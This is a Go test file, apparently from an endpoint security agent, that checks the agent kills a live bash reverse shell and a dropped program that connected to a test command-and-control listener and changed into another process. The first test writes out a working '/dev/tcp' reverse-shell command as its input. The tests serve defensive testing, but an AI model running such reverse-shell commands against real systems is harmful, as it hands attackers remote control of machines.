package agent

import (
	"fmt"
	"os"
	"syscall"
	"testing"
	"time"

	"github.com/cordon-security/cordon/agent/assess"
	"github.com/cordon-security/cordon/agent/observe"
	"github.com/cordon-security/cordon/agent/procfs"
)

func TestReverseShellIsStopped(t *testing.T) {
	a := newAgent(t, testConfig(t))
	remote := c2(t)
	launch(t, "/bin/bash", "-c", fmt.Sprintf("exec bash --norc -i >& /dev/tcp/%s/%d 0>&1", remote.Addr(), remote.Port()))
	t.Cleanup(func() { killAll(t, "bash --norc -i") })
	connected(t, a, remote)
	eventually(t, "the shell runs", func() bool { return len(running(t, "--norc -i")) == 1 })
	wantDone(t, a.Execute(t.Context(), task("shell", cleanTask, remote)))
	if left := running(t, "--norc -i"); len(left) != 0 {
		t.Errorf("still running: %v", left)
	}
}

func TestProgramThatConnectedAndBecameAnother(t *testing.T) {
	a := newAgent(t, testConfig(t))
	dir, remote := dropDir(t), c2(t)
	exe := drop(t, dir+"/job")
	launch(t, exe, "-connect", remote.String(), "-become", "/bin/sleep")
	t.Cleanup(func() { killAll(t, "100321") })
	connected(t, a, remote)
	eventually(t, "it is another program", func() bool { return len(running(t, "100321")) == 1 })
	wantDone(t, a.Execute(t.Context(), task("became", cleanTask, remote)))
	if left := running(t, "100321"); len(left) != 0 {
		t.Errorf("still running: %v", left)
	}
	if _, err := os.Lstat(exe); !os.IsNotExist(err) {
		t.Errorf("the executable is still there: %v", err)
	}
}

// TestProgramWhoseChangeIsNotHeardYet is the same while the event of the change is
// still under way: the history has the dropped program, the process table the
// other one.
func TestProgramWhoseChangeIsNotHeardYet(t *testing.T) {
	a := newAgent(t, testConfig(t))
	dir, remote := dropDir(t), c2(t)
	exe := drop(t, dir+"/job")
	launch(t, exe, "-connect", remote.String(), "-become", "/bin/sleep")
	t.Cleanup(func() { killAll(t, "100321") })
	connected(t, a, remote)
	eventually(t, "it is another program", func() bool { return len(running(t, "100321")) == 1 })
	now := running(t, "100321")[0]
	info, err := os.Stat(exe)
	if err != nil {
		t.Fatal(err)
	}
	st := info.Sys().(*syscall.Stat_t)
	late := *a.collector
	late.History = observe.NewHistory(time.Minute, nil)
	late.History.Exec(procfs.Process{ID: now.ID, Exe: exe, ExeFile: procfs.FileID{Dev: uint64(st.Dev), Ino: st.Ino}})
	late.History.Connect(1, observe.Connection{Remote: remote, Process: now.ID})
	flows, err := flowsOf(task("late", assessTask, remote))
	if err != nil {
		t.Fatal(err)
	}
	_, e, err := late.Look(flows, assess.Known{})
	if err != nil || e.Verdict != assess.Confirmed {
		t.Errorf("verdict %q: %v, %v", e.Verdict, e.Reasons, err)
	}
}
